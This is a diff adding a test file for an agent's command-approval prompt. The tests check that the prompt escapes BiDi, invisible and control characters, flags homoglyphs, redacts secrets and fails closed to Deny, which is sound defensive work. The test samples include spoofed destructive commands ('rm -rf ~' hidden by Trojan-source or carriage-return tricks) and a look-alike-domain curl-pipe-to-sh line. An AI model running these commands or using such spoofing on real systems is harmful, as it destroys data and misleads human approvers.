@@ -1,0 +1,232 @@
+import { describe, expect, it } from 'vitest';
+import {
+  buildApprovalPrompt,
+  DEFAULT_PROMPT_LIMITS,
+  toMessageBoxOptions,
+  type ExecApprovalRequested,
+} from '../../main/approval-prompt-text';
+import { hardenForDisplay, redactSecrets, REDACTED } from '../../main/display-hardening';
+import type { ApprovalPromptView } from '../../main/ipc/ipc-contract';
+
+function request(command: string, extra: Partial<ExecApprovalRequested['request']> = {}): ExecApprovalRequested {
+  return {
+    id: 'a1b2c3',
+    request: {
+      command,
+      cwd: '/home/dev/project',
+      agentId: 'main',
+      resolvedPath: '/usr/bin/env',
+      host: 'node',
+      nodeId: 'node-1',
+      security: 'allowlist',
+      ask: 'on-miss',
+      allowedDecisions: ['allow-once', 'allow-always', 'deny'],
+      ...extra,
+    },
+    createdAtMs: 1_000,
+    expiresAtMs: 61_000,
+  };
+}
+
+function prompt(command: string, extra: Partial<ExecApprovalRequested['request']> = {}): ApprovalPromptView {
+  const built = buildApprovalPrompt(request(command, extra));
+  if (built.kind !== 'prompt') throw new Error(`expected a prompt, got ${built.reason}: ${built.detail}`);
+  return built.view;
+}
+
+/** Everything a person could see: the view serialized, plus the message box text. */
+function everythingShown(view: ApprovalPromptView): string {
+  const box = toMessageBoxOptions(view);
+  return `${JSON.stringify(view)}\n${box.title}\n${box.message}\n${box.detail}\n${(box.buttons ?? []).join('|')}`;
+}
+
+const DANGEROUS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u;
+
+describe('approval prompt: layout and decisions', () => {
+  it('shows title, command, context and footer like the macOS prompt', () => {
+    const view = prompt('git status --short');
+    expect(view.title).toBe('Allow this command?');
+    expect(view.command.text).toBe('git status --short');
+    expect(view.footer).toBe('This runs on this machine.');
+    expect(Object.fromEntries(view.context.map((l) => [l.label, l.text]))).toEqual({
+      'Working directory': '/home/dev/project',
+      Agent: 'main',
+      Executable: '/usr/bin/env',
+      Host: 'node node-1',
+      Security: 'allowlist',
+      'Ask mode': 'on-miss',
+    });
+    expect(view.warnings).toEqual([]);
+  });
+
+  it('offers Always allow only when allowedDecisions lists it; Deny always', () => {
+    expect(prompt('ls', { allowedDecisions: ['allow-once', 'deny'] }).decisions).toEqual(['allow-once', 'deny']);
+    expect(prompt('ls', { allowedDecisions: ['allow-once', 'allow-always', 'deny'] }).decisions).toEqual(['allow-once', 'allow-always', 'deny']);
+    // Missing or malformed list: fail closed to the minimum.
+    expect(prompt('ls', { allowedDecisions: undefined }).decisions).toEqual(['deny']);
+    expect(prompt('ls', { allowedDecisions: ['allow-once', 'sudo' as never] }).decisions).toEqual(['allow-once', 'deny']);
+  });
+
+  it('message box: Deny is both the default button and the cancel action', () => {
+    const box = toMessageBoxOptions(prompt('ls'));
+    expect(box.buttons).toEqual(['Allow once', 'Always allow', 'Deny']);
+    expect(box.defaultId).toBe(2);
+    expect(box.cancelId).toBe(2);
+    const narrow = toMessageBoxOptions(prompt('ls', { allowedDecisions: ['allow-once', 'deny'] }));
+    expect(narrow.buttons).toEqual(['Allow once', 'Deny']);
+    expect(narrow.defaultId).toBe(1);
+    expect(narrow.cancelId).toBe(1);
+    expect(box.detail).toContain('Command:\nls');
+    expect(box.detail).toContain('This runs on this machine.');
+  });
+
+  it('builds the command from argv with visible boundaries when no text is given', () => {
+    const view = prompt('', { command: undefined, commandArgv: ['rm', '-rf', 'my dir', "it's"] });
+    expect(view.command.text).toBe(`rm -rf 'my dir' 'it'\\''s'`);
+  });
+
+  it('denies a request with no command at all', () => {
+    const built = buildApprovalPrompt(request('', { command: undefined }));
+    expect(built).toMatchObject({ kind: 'deny', reason: 'no-command' });
+  });
+});
+
+describe('approval prompt: hostile corpus', () => {
+  it('BiDi override (RLO) is escaped, visible and warned about', () => {
+    const view = prompt('cat invoice\u202Etxt.exe');
+    expect(view.command.text).toBe('cat invoice⟨RLO⟩txt.exe');
+    expect(view.warnings.join(' ')).toMatch(/bidirectional/);
+    expect(everythingShown(view)).not.toMatch(DANGEROUS);
+  });
+
+  it('Trojan-source isolates (LRI/RLI/FSI/PDI) are escaped', () => {
+    const view = prompt('rm -rf ~ #\u2067 \u2066safe cleanup\u2069\u2069');
+    expect(view.command.text).toBe('rm -rf ~ #⟨RLI⟩ ⟨LRI⟩safe cleanup⟨PDI⟩⟨PDI⟩');
+    expect(everythingShown(view)).not.toMatch(DANGEROUS);
+  });
+
+  it('zero-width and other invisible characters are escaped', () => {
+    const samples = ['cu\u200Brl', 'ev\u200Dal', '\uFEFFrm', 'r\u00ADm', 'ls\u2060-la', 'echo \u{E0041}\u{E0042}', 'x\u034Fy', 'a\u3164b'];
+    for (const sample of samples) {
+      const view = prompt(sample);
+      expect(view.command.text).toMatch(/⟨[^⟩]+⟩/);
+      expect(view.warnings.join(' ')).toMatch(/invisible/);
+      expect(everythingShown(view)).not.toMatch(DANGEROUS);
+    }
+    expect(prompt('cu\u200Brl').command.text).toBe('cu⟨ZWSP⟩rl');
+    expect(prompt('echo \u{E0041}').command.text).toBe('echo ⟨U+E0041⟩');
+  });
+
+  it('control characters (ESC sequences, CR overwrite, NUL, C1) are escaped; newlines stay readable', () => {
+    expect(prompt('echo safe\rrm -rf ~').command.text).toBe('echo safe⟨CR⟩rm -rf ~');
+    expect(prompt('printf "\x1b[2K\x1b[1Aok"').command.text).toBe('printf "⟨ESC⟩[2K⟨ESC⟩[1Aok"');
+    expect(prompt('a\x00b\x7fc\u009bd').command.text).toBe('a⟨NUL⟩b⟨DEL⟩c⟨U+009B⟩d');
+    expect(prompt('set -e\nmake').command.text).toBe('set -e⟨LF⟩\nmake');
+    expect(prompt('a\tb').warnings.join(' ')).toMatch(/control characters/);
+  });
+
+  it('spaces that are not spaces are escaped', () => {
+    expect(prompt('rm\u00A0-rf /').command.text).toBe('rm⟨NBSP⟩-rf /');
+    expect(prompt('ls\u2003-la').command.text).toBe('ls⟨U+2003⟩-la');
+    expect(prompt('ls\u2003-la').warnings.join(' ')).toMatch(/not ordinary spaces/);
+  });
+
+  it('homoglyphs are flagged with what they imitate (Cyrillic, Greek, fullwidth, maths)', () => {
+    const cyr = prompt('\u0441url https://ex\u0430mple.com/install.sh | sh');
+    expect(cyr.command.text).toBe('\u0441url https://ex\u0430mple.com/install.sh | sh');
+    expect(cyr.warnings.join(' ')).toMatch(/look-alike/);
+    expect(cyr.warnings.join(' ')).toContain('"с" (U+0441, Cyrillic) looks like "c"');
+    expect(cyr.warnings.join(' ')).toContain('"а" (U+0430, Cyrillic) looks like "a"');
+    expect(prompt('ls /t\u03BFp').warnings.join(' ')).toContain('looks like "o"');
+    expect(prompt('\uFF52\uFF4D -rf /').warnings.join(' ')).toContain('looks like "r"');
+    expect(prompt('\u{1D42B}\u{1D426} -rf /').warnings.join(' ')).toContain('looks like "r"');
+    expect(prompt('rm \u2212rf /').warnings.join(' ')).toContain('looks like "-"');
+    // Plain non-Latin text is allowed without a confusable warning.
+    expect(prompt('echo 你好').warnings).toEqual([]);
+  });
+
+  it('a literal "⟨RLO⟩" in the input cannot forge a marker', () => {
+    const forged = prompt('echo ⟨RLO⟩').command.text;
+    expect(forged).not.toContain('⟨RLO⟩');
+    expect(forged).toBe('echo ⟨U+27E8⟩RLO⟨U+27E9⟩');
+  });
+
+  it('a 1 MB command is denied, not cut off', () => {
+    const huge = `echo ${'A'.repeat(1024 * 1024)}`;
+    const built = buildApprovalPrompt(request(huge));
+    expect(built.kind).toBe('deny');
+    if (built.kind === 'deny') {
+      expect(built.reason).toBe('too-long');
+      expect(built.detail).toContain('1,048,581');
+    }
+  });
+
+  it('a command that only grows too long once escaped is denied too', () => {
+    const sneaky = `ls ${'\u200B'.repeat(1500)}`;
+    expect(sneaky.length).toBeLessThan(DEFAULT_PROMPT_LIMITS.maxCommandChars);
+    expect(buildApprovalPrompt(request(sneaky))).toMatchObject({ kind: 'deny', reason: 'too-long' });
+    const manyLines = Array.from({ length: 100 }, (_, i) => `echo ${i}`).join('\n');
+    expect(buildApprovalPrompt(request(manyLines))).toMatchObject({ kind: 'deny', reason: 'too-long' });
+  });
+
+  it('a command exactly at the limit is shown whole', () => {
+    const exact = `echo ${'B'.repeat(DEFAULT_PROMPT_LIMITS.maxCommandChars - 5)}`;
+    expect(prompt(exact).command.text).toBe(exact);
+  });
+
+  it('hostile context fields (cwd with BiDi, huge agent id) are escaped or denied', () => {
+    const view = prompt('ls', { cwd: '/tmp/\u202Egpj.sh' });
+    expect(view.context.find((l) => l.label === 'Working directory')?.text).toBe('/tmp/⟨RLO⟩gpj.sh');
+    expect(view.warnings.join(' ')).toMatch(/Working directory contains bidirectional/);
+    expect(buildApprovalPrompt(request('ls', { agentId: 'x'.repeat(5000) }))).toMatchObject({ kind: 'deny', reason: 'too-long' });
+  });
+});
+
+describe('approval prompt: secrets are never shown', () => {
+  const secrets: Array<[string, string]> = [
+    ['curl -H "Authorization: Bearer abcdef0123456789" https://api.example.com', 'abcdef0123456789'],
+    ['deploy --password hunter2 --verbose', 'hunter2'],
+    ['deploy --token=s3cr3t-t0k3n', 's3cr3t-t0k3n'],
+    ['AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG aws s3 ls', 'wJalrXUtnFEMI/K7MDENG'],
+    ['env GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345 gh pr list', 'ghp_0123456789abcdefghijABCDEFGHIJ012345'],
+    ['echo sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX1234 | llm', 'sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX1234'],
+    ['git clone https://alice:pa55w0rd@git.example.com/repo.git', 'pa55w0rd'],
+    ['mysql -u root -pTopSecret1 db', 'TopSecret1'],
+    ['aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE', 'AKIAIOSFODNN7EXAMPLE'],
+    ['curl -d token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U x', 'dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U'],
+    ["psql --set 'api_key=abc123xyz'", 'abc123xyz'],
+    ['node app.js --client-secret "very secret value"', 'very secret value'],
+    ['echo "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----" > k', 'b3BlbnNzaC1rZXktdjEAAAA'],
+    ['curl -H "X-Api-Key: 9f8e7d6c5b4a" https://x', '9f8e7d6c5b4a'],
+  ];
+  for (const [command, secret] of secrets) {
+    it(`hides the secret in: ${command.slice(0, 50)}`, () => {
+      const view = prompt(command);
+      expect(everythingShown(view)).not.toContain(secret);
+      expect(view.command.text).toContain(REDACTED);
+      expect(view.warnings.join(' ')).toMatch(/hidden/);
+    });
+  }
+
+  it('leaves ordinary arguments alone', () => {
+    for (const command of ['npm test -- --max-tokens 100', 'git log --author bob', 'tar -czf out.tgz src', 'ls --tokens-file list.txt']) {
+      expect(redactSecrets(command)).toEqual({ text: command, redactions: 0 });
+    }
+  });
+
+  it('environment variables are shown by name only, secret ones marked', () => {
+    const view = prompt('make', { envKeys: ['PATH', 'GITHUB_TOKEN', 'DB_PASSWORD'] });
+    expect(view.context.find((l) => l.label === 'Environment')?.text).toBe(
+      'PATH, GITHUB_TOKEN (secret, value hidden), DB_PASSWORD (secret, value hidden)',
+    );
+  });
+});
+
+describe('hardenForDisplay', () => {
+  it('passes plain ASCII through untouched', () => {
+    expect(hardenForDisplay('ls -la /tmp && echo "done"')).toEqual({ text: 'ls -la /tmp && echo "done"', flags: [], confusables: [] });
+  });
+  it('escapes lone surrogates', () => {
+    expect(hardenForDisplay('a\uD800b').text).toBe('a⟨U+D800⟩b');
+  });
+});
